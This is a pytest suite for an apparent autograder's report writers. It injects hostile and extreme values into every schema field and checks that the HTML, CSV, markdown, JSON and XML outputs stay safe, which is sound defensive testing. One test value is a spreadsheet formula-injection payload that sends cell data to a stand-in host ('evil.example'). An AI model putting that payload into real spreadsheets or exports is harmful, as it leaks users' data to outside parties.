"""Every report on any record: hostile and large values in each field that the schema describes."""

import copy
import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from concurrent.futures import Future
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from grader.__main__ import main
from grader.base.paths import ROOT
from grader.classroom import run
from grader.classroom.engine import Job
from grader.classroom.job import grade
from grader.classroom.journal import Entry, Journal
from grader.contract.names import file_name
from grader.contract.record import Record
from grader.contract.results import Result
from grader.contract.roster import Student
from grader.maintain.submission_bank import REFERENCE
from grader.reports import FORMATS, board, convert, exercism, feedback, gradescope, html, table
from grader.reports.class_report import page as class_page
from tests.classes import EVIL, HOSTILE, graded

SCHEMA = json.loads(
    (ROOT / "grader" / "contract" / "record.schema.json").read_text(encoding="utf-8")
)
SUMS = ("schema_version", "score", "max_score", "tasks")  # made again from the checks
ABSENT = object()
LINE = "random.py was skipped: Python already has a module with this name. Rename it."
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
TEXTS = {
    "empty": "",
    "hostile": HOSTILE,
    "characters": "".join(map(chr, [*range(32), *range(127, 160), 0x200F, 0x2066, 0xDC80, 0xFFFF])),
    "formula": '=HYPERLINK("http://evil.example?x="&A1)',
    "lines": "\n# heading\n| a | b |\n```\n~~~\n<b>\n\n" * 20,
    "a long word": "N" * 5_000,
}
NUMBERS = {
    "zero": 0,
    "negative": -1.5,
    "large": 1e308,
    "huge": 10**400,
    "infinite": float("inf"),
    "no number": float("nan"),
}


# --- the fields, and what is put into them ---------------------------------------------------


@dataclass(frozen=True)
class Field:
    """A value that the schema describes: where it is in a record, and its own schema."""

    path: tuple[str | int, ...]
    schema: dict[str, Any]
    optional: bool = False

    def __str__(self) -> str:
        return ".".join(map(str, self.path))

    def values(self) -> dict[str, Any]:
        """What the field can hold, by what that is called."""
        types = self.schema.get("type", [])
        types = types if isinstance(types, list) else [types]
        found: dict[str, Any] = {"absent": ABSENT} if self.optional else {}
        if "enum" in self.schema:
            found |= {f"the {value} of the enum": value for value in self.schema["enum"]}
            found["none of the enum"] = HOSTILE
        if "null" in types:
            found["null"] = None
        if "string" in types:
            found |= TEXTS
        if "number" in types or "integer" in types:
            found |= NUMBERS
        if "array" in types:
            own = value_at(self.path, BASE)
            found |= {"empty": [], "long": own * (200 // len(own))}
        if "object" in types and self.path != ("checks", 0):  # that is refused, see test_reports.py
            more = {HOSTILE: [HOSTILE, {HOSTILE: [NUMBERS["huge"], None, True]}]}
            found["with more in it"] = {**value_at(self.path, BASE), **more}
        if "object" in types and not self.schema.get("required"):
            found["empty"] = {}
        return found


def fields(schema: dict[str, Any], path: tuple[str | int, ...] = ()) -> Iterator[Field]:
    """Go through the fields of a schema, those inside others too."""
    for name, part in schema.get("properties", {}).items():
        if path or name not in SUMS:
            yield Field((*path, name), part, name not in schema.get("required", []))
            yield from fields(part, (*path, name))
    if "items" in schema:
        yield Field((*path, 0), schema["items"])
        yield from fields(schema["items"], (*path, 0))


def base() -> dict[str, Any]:
    """A record in which every field is there; its first check has a message and a mistake."""
    data: dict[str, Any] = json.loads(graded()["wrong"].to_json())
    known = next(check for check in data["checks"] if check["mistake"])
    statuses = {check["status"]: check for check in data["checks"] if check["id"] != known["id"]}
    extra = {"printed": "epoch 1\n  loss 0.5", "bonus": True}
    data["checks"] = [known | extra, *statuses.values()]
    data["submission"] |= {"left_out": [LINE], "notes": [LINE]}
    data["accuracy"] = json.loads(graded()["right"].to_json())["accuracy"]
    return data


def value_at(path: tuple[str | int, ...], data: Any) -> Any:
    for part in path:
        data = data[part]
    return data


def with_value(data: dict[str, Any], path: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    """A copy of a record as JSON data, with another value in one place."""
    data = copy.deepcopy(data)
    inside = value_at(path[:-1], data)
    if value is ABSENT:
        del inside[path[-1]]
    else:
        inside[path[-1]] = value
    return data


BASE = base()
FIELDS = [*fields(SCHEMA)]


def test_every_field_of_the_schema_is_in_the_record_that_is_changed() -> None:
    assert len(FIELDS) > 35
    for field in FIELDS:
        assert value_at(field.path, BASE) is not None, field


# --- what a report must be -------------------------------------------------------------------


def is_text(text: str) -> None:
    assert text.strip()
    assert text.encode()
    assert UNSAFE.search(text.replace("\r\n", "\n")) is None


def is_json(text: str) -> None:
    def look(value: Any) -> None:
        if isinstance(value, str):
            assert UNSAFE.search(value) is None
        elif isinstance(value, dict):
            for key, part in value.items():
                look([key, part])
        elif isinstance(value, list):
            for part in value:
                look(part)

    def refuse(name: str) -> None:
        raise AssertionError(f"{name} is no JSON")

    look(json.loads(text, parse_constant=refuse))


def is_xml(text: str) -> None:
    is_text(text)
    etree.fromstring(text.encode(), etree.XMLParser(huge_tree=True))


def is_html(text: str) -> None:
    is_text(text)
    page = etree.HTML(text.encode(), etree.HTMLParser(encoding="utf-8", huge_tree=True))
    assert page.xpath("//img | //iframe | //*[@onerror or @onload]") == []
    assert len(page.xpath("//script")) == text.count("script-src 'sha256-")
    assert EVIL not in text


def is_csv(text: str) -> None:
    is_text(text)
    rows = [*csv.reader(io.StringIO(text, newline=""))]
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows for cell in row if cell.startswith(table.FORMULA)):
        if cell != table.NO_GRADE:
            float(cell)  # it is a number, no formula


TAGS = {
    *("html", "body", "h1", "h2", "h3", "p", "strong", "table", "thead", "tbody", "tr", "th"),
    *("td", "pre", "code", "details", "summary"),
}


def is_markdown(text: str) -> None:
    is_text(text)
    page = etree.HTML(
        MarkdownIt("commonmark", {"html": True}).enable("table").render(text).encode(),
        etree.HTMLParser(encoding="utf-8", huge_tree=True),
    )
    assert {each.tag for each in page.iter()} <= TAGS
    assert len(page.xpath("//h1")) == 1


def is_notices(text: str) -> None:
    *_, last = text.splitlines()
    kind, _, value = last.removeprefix("::").partition("::")
    assert kind in ("notice title=Autograding report", "error title=Not graded")
    if kind.startswith("notice"):
        is_json(value)


KINDS: dict[str, Callable[[str], None]] = {
    "txt": is_text, "md": is_markdown, "html": is_html, "json": is_json, "xml": is_xml,
    "csv": is_csv, "notices": is_notices,
}  # fmt: skip
SUFFIXES = {
    "board": "txt", "markdown": "md", "html": "html", "gradescope": "json", "exercism": "json",
    "prairielearn": "json", "github": "notices", "junit": "xml", "csv": "csv", "canvas": "csv",
    "moodle": "csv",
}  # fmt: skip


def write_class(results: list[Result], out: Path, title: str = "News") -> None:
    """Write all reports on a class: each is made, and each is what its name says."""
    assert class_page.write(results, out, title, markdown=True) == []
    written = {path.relative_to(out).as_posix(): path for path in out.rglob("*.*")}
    people = [f"feedback/{file_name(each.student)}" for each in results if each.record]
    assert written.keys() == {
        *("index.html", "marks.csv", "canvas.csv", "moodle.csv", "junit.xml"),
        *(f"{place}.{suffix}" for place in people for suffix in ("html", "md")),
    }
    for name, path in written.items():
        try:
            KINDS[path.suffix[1:]](path.read_bytes().decode())
        except AssertionError as error:
            raise AssertionError(f"{name}: {error}") from None


# --- records ---------------------------------------------------------------------------------


def show_in_every_format(record: dict[str, Any], file: Path) -> None:
    """Show a record from a file in every format."""
    file.write_text(json.dumps(record), encoding="utf-8")
    for face, suffix in SUFFIXES.items():
        try:
            KINDS[suffix](convert([file], face))
        except Exception as error:
            raise AssertionError(f"{file.stem} as {face}: {error!r}") from error


@pytest.mark.parametrize("field", FIELDS, ids=str)
def test_a_record_can_be_shown_whatever_a_field_holds(field: Field, tmp_path: Path) -> None:
    results = [Result("as it was", record=graded()["wrong"])]
    for kind, value in field.values().items():
        record = Record.from_dict(with_value(BASE, field.path, value))
        try:  # what a class does not write
            is_text(board.text(record))
            is_json(gradescope.text(record))
            is_json(exercism.text(record))
            if record.checks:
                is_html(html.table(record))
        except Exception as error:
            raise AssertionError(f"{field}, {kind}: {error!r}") from error
        results.append(Result(kind, record=record))
    write_class(results, tmp_path)


@pytest.mark.parametrize("kind", NUMBERS)
def test_a_record_can_be_shown_whatever_its_numbers_are(kind: str, tmp_path: Path) -> None:
    data = BASE
    for field in FIELDS:
        if kind in field.values():
            data = with_value(data, field.path, NUMBERS[kind])
    record = Record.from_dict(data)
    show_in_every_format(data, tmp_path / f"{kind}.json")
    write_class([Result(f"{kind}{n}", record=record) for n in range(2)], tmp_path / "out")


def test_every_format_is_among_those_that_are_proved() -> None:
    assert FORMATS.keys() == SUFFIXES.keys()


@pytest.mark.parametrize("kind", TEXTS)
def test_a_record_can_be_shown_if_all_its_texts_are_hostile(kind: str, tmp_path: Path) -> None:
    data = BASE
    for field in FIELDS:
        if kind in field.values() and not isinstance(field.values()[kind], list | dict):
            data = with_value(data, field.path, TEXTS[kind])
    record = Record.from_dict(data)
    show_in_every_format(data, tmp_path / f"{kind}.json")
    results = [Result(f"{kind}{n}", record=record) for n in range(2)]
    results.append(Result("as it was", record=graded()["wrong"]))
    write_class(results, tmp_path / "out", TEXTS[kind])


# --- results ---------------------------------------------------------------------------------

RIGHT = graded()["right"]


def results_with(name: str) -> Iterator[Result]:
    values: dict[str, Any] = NUMBERS if name in ("seconds", "memory") else TEXTS
    for kind, value in values.items():
        own: dict[str, Any] = {
            "student": kind,
            "record": None if name == "fault" else RIGHT.as_dict(),
        }
        own[name] = {value: value} if name == "fingerprints" else value
        if name == "notes":
            own |= {name: [value, *["x"] * 9]}
        if name == "roster":
            own[name] = dict.fromkeys(vars(Student()), value)
        yield Result.from_dict(own)


@pytest.mark.parametrize(
    "name",
    [
        *("student", "name", "path", "fault", "notes"),
        *("seconds", "memory", "fingerprints", "roster"),
    ],
)
def test_a_class_can_be_shown_whatever_a_result_holds(name: str, tmp_path: Path) -> None:
    results = [*results_with(name), Result("as it was", "Ann", record=graded()["wrong"])]
    write_class(results, tmp_path / "out")
    run.write(results, tmp_path / "out", HOSTILE, "folders")
    data = json.loads((tmp_path / "out" / run.RESULTS).read_bytes())
    kept = [Result.from_dict(each) for each in data["results"]]
    assert list(map(repr, kept)) == list(map(repr, results))  # NaN is not equal to itself


def test_a_lone_surrogate_can_be_kept(tmp_path: Path) -> None:
    left_out = {**RIGHT.submission, "left_out": [HOSTILE, "\\\ud800"]}
    result = Result("ann", HOSTILE, fault=HOSTILE, record=replace(RIGHT, submission=left_out))
    assert result.record is not None
    assert json.loads(result.record.to_json())["submission"] == left_out
    journal = Journal(tmp_path / "journal.jsonl")
    journal.add(Entry(result, "digest", "setting"))
    journal.close()
    again = Journal(tmp_path / "journal.jsonl")
    again.close()
    assert again.entries["ann"].result == result


def test_a_difference_of_hostile_records_is_shown(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    old, new = ([Result(HOSTILE, record=graded()[name])] for name in ("right", "hostile"))
    for name, results in (("old", old), ("new", new)):
        (tmp_path / name).mkdir()
        run.write(results, tmp_path / name, "News", "folders")
    for options in ([], ["--json"]):
        assert main(["diff", str(tmp_path / "old"), str(tmp_path / "new"), *options]) == 1
        assert UNSAFE.search(capfd.readouterr().out) is None


# --- skipped files --------------------------------------------------------------------------


class InThisProcess:
    """An engine that grades at once."""

    slots = 1

    def submit(self, job: Job) -> Future[str]:
        future: Future[str] = Future()
        future.set_result(grade(job))
        return future

    def renew(self) -> None: ...

    def close(self, at_once: bool) -> None: ...


@pytest.mark.usefixtures("kits_course")
def test_a_class_has_its_reports_if_a_file_of_one_student_is_not_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(run, "Local", lambda _workers: InThisProcess())
    for student in ("alice", "carol"):
        (tmp_path / "class" / student).mkdir(parents=True)
        file = tmp_path / "class" / student / "dataset.py"
        file.write_bytes(REFERENCE["dataset"] + f"# {student}\n".encode())
    for name in ("test_mine", "conftest", "random"):
        (tmp_path / "class" / "alice" / f"{name}.py").write_text("import unittest\n")
    out = tmp_path / "out"
    assert main(["class", str(tmp_path / "class"), "--out", str(out)]) == 1
    assert "2 of 2: 2 in progress" in capsys.readouterr().out
    data = json.loads((out / "results.json").read_bytes())
    [alice, carol] = [Result.from_dict(each).record for each in data["results"]]
    assert alice is not None
    assert carol is not None
    assert (alice.score, carol.score) == (15, 15)
    lines = alice.submission["left_out"]
    assert [line.split(" was skipped: ")[0] for line in lines] == [
        "conftest.py", "random.py", "test_mine.py",
    ]  # fmt: skip
    for line in lines:
        assert line in (out / "feedback" / "alice.html").read_text(encoding="utf-8")
        assert line in (out / "index.html").read_text(encoding="utf-8")
        assert line not in (out / "feedback" / "carol.html").read_text(encoding="utf-8")
    show_in_every_format(alice.as_dict(), tmp_path / "alice.json")


@pytest.mark.parametrize("field", ["left_out", "notes"])
def test_a_student_reads_which_files_are_not_taken_or_how_they_were_read(field: str) -> None:
    submission = {**RIGHT.submission, field: [LINE]}
    record = replace(RIGHT, submission=submission)
    assert LINE in feedback.text(record)
    for face in ("board", "markdown", "gradescope"):
        module, name = FORMATS[face][0].split(".")
        text = getattr(__import__(f"grader.reports.{module}", fromlist=[name]), name)(record)
        assert LINE in text.replace("\\", "").replace("\n", " "), face
